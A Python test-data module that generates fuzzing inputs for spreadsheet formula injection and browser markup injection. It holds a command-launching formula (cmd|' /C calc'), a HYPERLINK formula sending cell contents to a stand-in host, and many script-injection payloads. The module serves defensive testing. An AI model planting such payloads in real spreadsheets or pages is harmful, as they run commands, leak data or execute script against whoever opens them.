"""Texts that mean harm to whoever opens them: formulas for spreadsheets, markup and script for browsers."""

import os
import random
from typing import Final

from hypothesis import strategies as st

DEEP: Final = bool(os.environ.get("UCSYNC_DEEP"))
COUNT: Final = 10_000 if DEEP else 2_000

#: What begins a formula, in all widths.
FORMULA: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")

_SPACES: Final = (
    "",
    " ",
    "  ",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\x00",
    "\x0b",
    '"',
    "\t",
    "\r",
    "\n",
)
_SEPARATORS: Final = (";", ",", "\t", "|", "\n", "\r\n", '"', "'", '";"', "\n\n")
_DEEDS: Final = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://h/?"&A1)', "SUM(1:9)*2", "WEBSERVICE(A1)",
    "<script>document.title='harmed'</script>", "</script><script>document.title='harmed'</script>",
    "</style><img src=x onerror=\"document.title='harmed'\">", "--><svg/onload=document.title='harmed'>",
    '" autofocus onfocus="document.title=\'harmed\'" x="', "' onmouseover='document.title=1'", "<!--", "]]>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'>", "javascript:document.title='harmed'",
    "</textarea></title></option></select><base href=//h>", "&lt;script&gt;", "&#60;b&#62;", "\u2028\u2029",
    "<meta http-equiv=refresh content='0;url=data:text/html,harmed'>", "\u202etxt.exe", "{{7*7}}", "${7*7}",
    "<math><mtext><table><mglyph><style><img src=x onerror=1>", "\x00<b>", "<\x00script>", "O'Brien & Søn",
)  # fmt: skip

#: One text that means harm, or none.
PIECES: Final = st.sampled_from([*FORMULA, *_SPACES, *_SEPARATORS, *_DEEDS])
TEXTS: Final = st.lists(PIECES | st.characters(codec="utf-8"), max_size=6).map("".join)


def thousands(seed: int = 20261123) -> list[str]:
    """The same each time, no two alike."""
    chance = random.Random(seed)  # noqa: S311  # texts of a test
    found: dict[str, None] = {}
    while len(found) < COUNT:
        pieces = (_SPACES, FORMULA, _DEEDS, _SEPARATORS, _SPACES, FORMULA, _DEEDS)
        found["".join(chance.choice(kind) for kind in pieces[: chance.randint(2, 7)])] = None
    return list(found)
